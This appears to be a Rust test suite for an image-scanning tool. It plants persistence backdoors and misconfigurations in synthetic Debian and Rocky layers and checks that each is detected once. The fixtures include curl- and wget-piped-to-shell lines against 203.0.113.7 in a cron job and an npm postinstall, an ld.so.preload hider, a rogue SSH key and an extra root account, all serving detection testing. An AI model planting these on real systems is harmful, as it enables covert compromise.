//! The hygiene and persistence checks through the binary: a system tree
//! with each mistake planted once reports each once; the same tree without
//! them reports nothing; a real Debian tree has no HIGH or CRITICAL
//! finding; `--skip-check` and `--fail-on` behave as documented.

use crate::support::*;
use imgscan_fixtures::*;
use serde_json::Value;
use std::collections::BTreeMap;
use std::ffi::OsStr;

const STATUS: &str = "Package: cron\nStatus: install ok installed\nArchitecture: amd64\nVersion: 3.0pl1-162\n\nPackage: openssh-server\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1:9.2p1-2+deb12u3\n";

/// A Debian-like base layer, and a second layer that plants (or not) the
/// mistakes.
fn system(planted: bool) -> Image {
    let mut base = LayerTar::new();
    base.file("etc/os-release", "ID=debian\nVERSION_ID=12\n");
    base.symlink("bin", "usr/bin");
    base.file("usr/sbin/cron", b"\x7fELF\x02\x01\x01 cron");
    base.file("var/lib/dpkg/status", STATUS);
    base.file("var/lib/dpkg/info/cron.list", "/.\n/usr/sbin/cron\n");
    base.file(
        "etc/crontab",
        "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
    );
    base.file(
        "etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n",
    );
    base.file(
        "etc/shadow",
        "root:*:20000:0:99999:7:::\ndaemon:*:20000:0:99999:7:::\n",
    );
    base.file(
        "etc/ssh/sshd_config",
        "PermitRootLogin prohibit-password\nPasswordAuthentication no\n",
    );
    base.file(
        "etc/redis/redis.conf",
        "bind 127.0.0.1 -::1\nprotected-mode yes\n",
    );
    base.file(
        "etc/sudoers",
        "Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n",
    );
    let mut top = LayerTar::new();
    if planted {
        top.file(
            "etc/cron.d/sync",
            "*/10 * * * * root /var/tmp/.sync/kthreadd -B\n",
        );
        top.file(
            "var/spool/cron/crontabs/root",
            "@reboot curl -fsSL http://203.0.113.7/a.sh | bash\n",
        );
        top.file(
            "etc/systemd/system/dbus-broker.service",
            "[Service]\nExecStart=/usr/sbin/kswapd0 --config /etc/.kconf\n",
        );
        top.symlink(
            "etc/systemd/system/multi-user.target.wants/dbus-broker.service",
            "/etc/systemd/system/dbus-broker.service",
        );
        top.file_mode("usr/sbin/kswapd0", b"\x7fELF\x02\x01\x01 renamed", 0o755);
        top.file("etc/rc.local", "#!/bin/sh\n/dev/shm/.x/run &\n");
        top.file("etc/ld.so.preload", "/usr/lib/libprocesshider.so\n");
        top.file("etc/passwd", "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\ntoor:x:0:0::/root:/bin/bash\nguest:x:1001:1001::/home/guest:/bin/bash\nops:x:1002:1002::/home/ops:/bin/bash\n");
        top.file("etc/shadow", "root:*:20000:0:99999:7:::\ndaemon:$6$s$h:20000:0:99999:7:::\ntoor:!:20000::::::\nguest:$1$s$h:20000::::::\nops::20000::::::\n");
        top.file(
            "etc/ssh/sshd_config",
            "PermitRootLogin yes\nPasswordAuthentication yes\nPermitEmptyPasswords yes\n",
        );
        top.file(
            "root/.ssh/authorized_keys",
            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA attacker\n",
        );
        top.file(
            "etc/ssh/ssh_host_ed25519_key",
            "-----BEGIN OPENSSH PRIVATE KEY-----\n",
        );
        top.file("etc/redis/redis.conf", "bind 0.0.0.0\nprotected-mode no\n");
        top.file("etc/modules-load.d/cpu.conf", "# cpu tuning\nmsr\n");
        top.file("etc/sudoers.d/90-ops", "ops ALL=(ALL) NOPASSWD: ALL\n");
        top.file("app/node_modules/colors-x/package.json", r#"{"name":"colors-x","version":"1.0.0","scripts":{"postinstall":"wget -qO- http://203.0.113.7/p | sh"}}"#);
    } else {
        top.file("etc/motd", "clean\n");
    }
    Image::new(vec![base.finish(), top.finish()])
}

fn scan_json(target: &std::path::Path, extra: &[&str]) -> (i32, Value) {
    let (report, run) = scan_with(target, extra);
    (run.code, report)
}

fn ids(report: &Value) -> BTreeMap<String, usize> {
    let mut ids = BTreeMap::new();
    for f in report["findings"].as_array().unwrap() {
        *ids.entry(f["id"].as_str().unwrap().to_string())
            .or_default() += 1;
    }
    ids
}

#[test]
fn each_planted_mistake_is_found_once() {
    let dir = oci_dir(&system(true), LayerCompression::Gzip);
    let (code, report) = scan_json(&dir, &[]);
    assert_eq!(code, 0, "findings alone do not fail the default gate");
    let expected: BTreeMap<String, usize> = [
        "cron.runs-from-tmp",
        "cron.download-and-run",
        "systemd.runs-unowned",
        "file.unowned-executable",
        "startup.runs-from-tmp",
        "preload.ld-so-preload",
        "account.extra-uid0",
        "account.system-password",
        "account.weak-hash",
        "account.leftover",
        "account.empty-password",
        "ssh.permit-root-login",
        "ssh.password-authentication",
        "ssh.permit-empty-passwords",
        "ssh.authorized-keys",
        "ssh.host-keys",
        "redis.no-auth",
        "npm.install-script",
        "kernel.msr-module",
        "sudo.nopasswd-all",
    ]
    .into_iter()
    .map(|id| (id.to_string(), 1))
    .collect();
    assert_eq!(ids(&report), expected);
    let unowned = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["id"] == "file.unowned-executable")
        .unwrap();
    assert_eq!(unowned["path"], "/usr/sbin/kswapd0");
    assert_eq!(unowned["layer"], 1, "the layer that planted it");
    assert_eq!(report["summary"]["counts"]["findings"]["CRITICAL"], 1);
    let first = &report["findings"][0];
    assert_eq!(first["severity"], "CRITICAL", "sorted by severity first");
}

#[test]
fn the_clean_tree_has_no_findings() {
    let (code, report) = scan_json(&oci_dir(&system(false), LayerCompression::Gzip), &[]);
    assert_eq!(code, 0);
    assert_eq!(ids(&report), BTreeMap::new());
}

#[test]
fn skip_check_and_fail_on() {
    let dir = oci_dir(&system(true), LayerCompression::Gzip);
    let (_, report) = scan_json(
        &dir,
        &[
            "--skip-check",
            "ssh.host-keys",
            "--skip-check",
            "redis.no-auth",
        ],
    );
    let found = ids(&report);
    assert!(!found.contains_key("ssh.host-keys") && !found.contains_key("redis.no-auth"));
    assert!(found.contains_key("ssh.permit-root-login"));
    let (code, _) = scan_json(&dir, &["--fail-on", "HIGH"]);
    assert_eq!(code, 1, "a HIGH finding fails --fail-on HIGH");
    let clean = oci_dir(&system(false), LayerCompression::Gzip);
    let (code, _) = scan_json(&clean, &["--fail-on", "LOW"]);
    assert_eq!(
        code, 2,
        "a gate cannot pass blind while vulnerabilities are not checked"
    );
}

#[test]
fn debian_tree_has_no_high_findings() {
    let Some(root) = debian_rootfs() else {
        return;
    };
    let (code, report) = scan_json(&root, &[]);
    assert_eq!(code, 0);
    let severe: Vec<&Value> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["severity"] == "HIGH" || f["severity"] == "CRITICAL")
        .collect();
    assert!(
        severe.is_empty(),
        "a default install is not compromised: {severe:#?}"
    );
    // What a default install does show: its host keys and sshd's default.
    let found = ids(&report);
    assert_eq!(found.get("ssh.password-authentication"), Some(&1));
    assert!(found.get("ssh.host-keys").is_some_and(|n| *n >= 2));
    assert!(
        !found.contains_key("file.unowned-executable"),
        "every ELF in a system path is owned: {found:?}"
    );
}

#[test]
fn rules_list_names_every_check() {
    let run = run(&["rules", "list"]);
    assert_eq!(run.code, 0);
    for id in [
        "cron.runs-from-tmp",
        "file.unowned-executable",
        "ssh.permit-root-login",
        "npm.install-script",
        "preload.ld-so-preload",
        "kernel.msr-module",
        "sudo.no-authenticate",
    ] {
        assert!(
            run.stdout.contains(id),
            "{id} missing from:\n{}",
            run.stdout
        );
    }
}

#[test]
fn the_ignore_file_silences_until_it_expires() {
    let dir = oci_dir(&system(true), LayerCompression::Gzip);
    let ignore = fresh("ignore.toml");
    std::fs::write(
        &ignore,
        "[[ignore]]\nid = \"ssh.host-keys\"\nreason = \"regenerated on first boot\"\nexpires = 2999-12-31\n\n[[ignore]]\nid = \"redis.no-auth\"\nreason = \"was a lab box\"\nexpires = 2020-01-01\n",
    )
    .unwrap();
    let (_, report) = scan_json(&dir, &["--ignore-file", ignore.to_str().unwrap()]);
    let found = ids(&report);
    assert!(
        !found.contains_key("ssh.host-keys"),
        "suppressed: {found:?}"
    );
    assert!(
        found.contains_key("redis.no-auth"),
        "an expired entry suppresses nothing"
    );
    assert_eq!(report["summary"]["suppressed"], 1);
    let warnings = report["summary"]["warnings"].as_array().unwrap();
    assert!(
        warnings
            .iter()
            .any(|w| w.as_str().unwrap().contains("redis.no-auth")
                && w.as_str().unwrap().contains("expired")),
        "{warnings:?}"
    );
    std::fs::write(&ignore, "[[ignore]]\nid = \"x\"\nexpires = 2999-01-01\n").unwrap();
    let run = run(&[
        OsStr::new("scan"),
        dir.as_os_str(),
        OsStr::new("--ignore-file"),
        ignore.as_os_str(),
    ]);
    assert_eq!(
        run.code, 2,
        "an ignore entry without a reason is a configuration error"
    );
    assert!(run.stderr.contains("reason"), "{}", run.stderr);
}

/// A Rocky-like system with each door planted once (or none of them).
fn doors(planted: bool) -> Image {
    let mut base = LayerTar::new();
    base.file(
        "etc/os-release",
        "NAME=\"Rocky Linux\"\nID=\"rocky\"\nID_LIKE=\"rhel centos fedora\"\nVERSION_ID=\"9.3\"\n",
    );
    base.file(
        "etc/redhat-release",
        "Rocky Linux release 9.3 (Blue Onyx)\n",
    );
    base.file(
        "etc/selinux/config",
        "SELINUX=enforcing\nSELINUXTYPE=targeted\n",
    );
    base.file(
        "usr/lib/systemd/system/docker.service",
        "[Service]\nExecStart=/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock\n",
    );
    base.file(
        "etc/xinetd.d/tftp",
        "service tftp\n{\n\tserver = /usr/sbin/in.tftpd\n\tdisable = yes\n}\n",
    );
    base.file(
        "etc/vsftpd/vsftpd.conf",
        "anonymous_enable=NO\nlocal_enable=YES\nwrite_enable=YES\n",
    );
    base.file(
        "usr/lib/systemd/system/telnet.socket",
        "[Socket]\nListenStream=23\nAccept=true\n",
    );
    let mut top = LayerTar::new();
    if planted {
        top.file(
            "etc/selinux/config",
            "SELINUX=disabled\nSELINUXTYPE=targeted\n",
        );
        top.file(
            "etc/systemd/system/docker.service.d/override.conf",
            "[Service]\nExecStart=\nExecStart=/usr/bin/dockerd -H fd:// -H tcp://0.0.0.0:2375\n",
        );
        top.file(
            "etc/xinetd.d/tftp",
            "service tftp\n{\n\tserver = /usr/sbin/in.tftpd\n\tdisable = no\n}\n",
        );
        top.file(
            "etc/vsftpd/vsftpd.conf",
            "anonymous_enable=YES\nwrite_enable=YES\nanon_upload_enable=YES\n",
        );
        top.symlink(
            "etc/systemd/system/sockets.target.wants/telnet.socket",
            "/usr/lib/systemd/system/telnet.socket",
        );
        top.file(
            "etc/inetd.conf",
            "login stream tcp nowait root /usr/sbin/tcpd /usr/sbin/in.rlogind\n",
        );
    } else {
        top.file("etc/motd", "clean\n");
    }
    Image::new(vec![base.finish(), top.finish()])
}

#[test]
fn the_doors_miners_use_are_found_once_each() {
    let (_, report) = scan_json(&oci_dir(&doors(true), LayerCompression::Gzip), &[]);
    let expected: BTreeMap<String, usize> = [
        "docker.tcp-without-tls",
        "selinux.disabled",
        "service.tftp",
        "service.telnet",
        "service.rsh",
        "vsftpd.anonymous-upload",
    ]
    .into_iter()
    .map(|id| (id.to_string(), 1))
    .collect();
    assert_eq!(ids(&report), expected);
    let docker = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["id"] == "docker.tcp-without-tls")
        .unwrap();
    assert_eq!(docker["severity"], "CRITICAL");
    assert_eq!(
        docker["path"],
        "/etc/systemd/system/docker.service.d/override.conf"
    );
    assert_eq!(
        (docker["line"].as_u64(), docker["layer"].as_u64()),
        (Some(3), Some(1))
    );
    assert!(docker["remedy"].as_str().unwrap().contains("tlsverify"));

    let (_, report) = scan_json(&oci_dir(&doors(false), LayerCompression::Gzip), &[]);
    assert_eq!(ids(&report), BTreeMap::new(), "the same services, closed");
    let list = run(&["rules", "list"]);
    for id in expected.keys() {
        assert!(list.stdout.contains(id.as_str()), "{id}: {}", list.stdout);
    }
}
